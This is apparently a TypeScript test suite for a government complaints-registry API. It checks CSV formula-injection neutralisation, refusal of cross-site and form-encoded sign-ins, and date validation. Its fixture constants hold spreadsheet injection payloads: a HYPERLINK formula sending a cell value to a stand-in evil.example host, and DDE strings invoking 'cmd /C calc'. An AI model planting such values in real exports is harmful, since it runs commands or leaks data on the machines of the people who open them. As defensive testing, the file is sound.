import { parse } from 'csv-parse/sync';
import { SettableClock } from '@app/core';
import { complaintBody } from './support/complaint-fixtures';
import { PASSWORD, seedWorld, signInAll, World } from './support/fixtures';
import { insertLicence } from './support/licence-fixtures';
import { asOwner, startTestApp, TestApp } from './support/test-app';

/** What an agency user can make its own name: each a live formula in a spreadsheet if written as it is. */
const FORMULA_EN = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const FORMULA_ZH = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const FORMULA_PROVINCE = '+HYPERLINK("http://evil.example","福建")';
const FORMULA_PROVINCE_EN = '-2+3+cmd|\' /C calc\'!A0';

/** Every cell of a CSV response, the byte order mark set aside. */
function cells(text: string): string[] {
  expect(text.charCodeAt(0)).toBe(0xfeff);
  return (parse(text.slice(1), { relax_column_count: true }) as string[][]).flat();
}

/** A cell a spreadsheet would run: begins with = + - @, tab or CR, and is not simply a number. */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);

describe('CSV formula injection, sign-ins from other sites, dates in trends', () => {
  let t: TestApp;
  let world: World;
  let auth: Record<string, string>;

  beforeAll(async () => {
    t = await startTestApp({ clock: new SettableClock('2026-11-23T02:00:00.000Z'), env: { PUBLIC_BASE_URL: 'https://registry.example.cn' } });
    world = await seedWorld(t);
    auth = await signInAll(t);
    await insertLicence(t, { agencyId: world.agencies.fuzhou, bureauId: world.bureaus.fuzhou, status: 'active' });
    // The agency names itself; the province name stands for any reference text a CSV carries.
    await t.db.query(`UPDATE agencies SET name_en = $2, name_zh = $3 WHERE id = $1`, [world.agencies.fuzhou, FORMULA_EN, FORMULA_ZH]);
    await asOwner(t, `UPDATE jurisdictions SET name_zh = $2, name_en = $3 WHERE code = $1`, ['350000', FORMULA_PROVINCE, FORMULA_PROVINCE_EN]);
    const created = await t.http().post('/api/complaints').set('authorization', auth['fz-admin']).send({ ...complaintBody(), channel: 'letter', receivedAt: '2026-11-02T03:00:00Z' }).expect(201);
    await t.db.query(`UPDATE complaints SET agency_id = $1 WHERE id = $2`, [world.agencies.fuzhou, created.body.id]);
  });
  afterAll(() => t.close());

  describe('CSV formula injection', () => {
    it('neutralises an agency name planted as a formula in the trends CSV by agency, in English and Chinese', async () => {
      for (const language of ['en', 'zh-CN']) {
        const response = await t
          .http()
          .get('/api/complaints/trends?groupBy=agency&granularity=month&from=2026-11-01&to=2026-11-30')
          .set('authorization', auth.ministry)
          .set('accept', 'text/csv')
          .set('accept-language', language)
          .buffer(true)
          .expect(200);
        expect(response.headers['content-type']).toMatch(/^text\/csv/);
        const all = cells(response.text);
        expect(all).toContain(`'${language === 'en' ? FORMULA_EN : FORMULA_ZH}`);
        expect(all.filter(live)).toEqual([]);
      }
    });

    it('neutralises names in the annual-report summary CSV', async () => {
      const response = await t.http().get('/api/annual-reports/summary?year=2025').set('authorization', auth.ministry).set('accept', 'text/csv').buffer(true).expect(200);
      const all = cells(response.text);
      expect(all).toEqual(expect.arrayContaining([`'${FORMULA_PROVINCE}`, `'${FORMULA_PROVINCE_EN}`]));
      expect(all.filter(live)).toEqual([]);
    });
  });

  describe('login CSRF', () => {
    const login = () => t.http().post('/api/auth/login');

    it('refuses a form-encoded or text/plain sign-in (what an HTML form of another site sends) with 415', async () => {
      const form = await login().set('content-type', 'application/x-www-form-urlencoded').send(`username=fj-admin&password=${encodeURIComponent(PASSWORD)}&session=cookie`);
      expect(form.status).toBe(415);
      expect(form.headers['content-type']).toMatch(/problem\+json/);
      expect(form.headers['set-cookie']).toBeUndefined();
      const text = await login().set('content-type', 'text/plain').send(JSON.stringify({ username: 'fj-admin', password: PASSWORD, session: 'cookie' }));
      expect(text.status).toBe(415);
      expect(text.headers['set-cookie']).toBeUndefined();
      // The other sign-in routes alike.
      for (const path of ['/api/auth/refresh', '/api/auth/logout', '/api/auth/password-reset']) {
        expect([path, (await t.http().post(path).set('content-type', 'text/plain').send('{}')).status]).toEqual([path, 415]);
      }
      // JSON from the API's own clients still signs in.
      await login().send({ username: 'fj-admin', password: PASSWORD }).expect(200);
    });

    it('gives a cookie session only with X-Registry-Client: web, as refresh and logout require', async () => {
      const bare = await login().send({ username: 'fj-admin', password: PASSWORD, session: 'cookie' });
      expect(bare.status).toBe(403);
      expect(bare.body.type).toMatch(/web-client-header-required/);
      expect(bare.headers['set-cookie']).toBeUndefined();
      const web = await login().set('x-registry-client', 'web').send({ username: 'fj-admin', password: PASSWORD, session: 'cookie' }).expect(200);
      expect(String(web.headers['set-cookie'])).toMatch(/registry_refresh=/);
    });

    it('refuses a sign-in from another site (Origin, Sec-Fetch-Site) with 403, and takes the registry’s own', async () => {
      const body = { username: 'fj-admin', password: PASSWORD };
      const foreignOrigin = await login().set('origin', 'https://evil.example').send(body);
      expect(foreignOrigin.status).toBe(403);
      expect(foreignOrigin.body.type).toMatch(/cross-site-request/);
      await login().set('origin', 'null').send(body).expect(403);
      await login().set('sec-fetch-site', 'cross-site').send(body).expect(403);
      await login().set('sec-fetch-site', 'same-site').send(body).expect(403);
      await t.http().post('/api/auth/refresh').set('origin', 'https://evil.example').set('x-registry-client', 'web').send({}).expect(403);
      // The public address, the address the request came to, a same-origin fetch and a typed-in request all sign in.
      await login().set('origin', 'https://registry.example.cn').set('sec-fetch-site', 'same-origin').send(body).expect(200);
      const self = await login().send(body);
      expect(self.status).toBe(200);
      await login().set('sec-fetch-site', 'none').send(body).expect(200);
      // Other routes are not the sign-in's business (the web app's API calls carry a bearer token).
      await t.http().get('/api/me').set('authorization', auth['fj-admin']).set('origin', 'https://evil.example').expect(200);
    });
  });

  describe('trends dates', () => {
    it('answers a date-time in from or to with 400 naming the field, not 500', async () => {
      for (const field of ['from', 'to']) {
        const response = await t.http().get(`/api/complaints/trends?${field}=2026-01-01T00:00:00Z`).set('authorization', auth.ministry);
        expect([field, response.status]).toEqual([field, 400]);
        expect(response.headers['content-type']).toMatch(/problem\+json/);
        expect(response.body.errors.map((e: { field: string }) => e.field)).toEqual([field]);
      }
      await t.http().get('/api/complaints/trends?from=2026-01-01&to=2026-01-31').set('authorization', auth.ministry).expect(200);
    });
  });
});
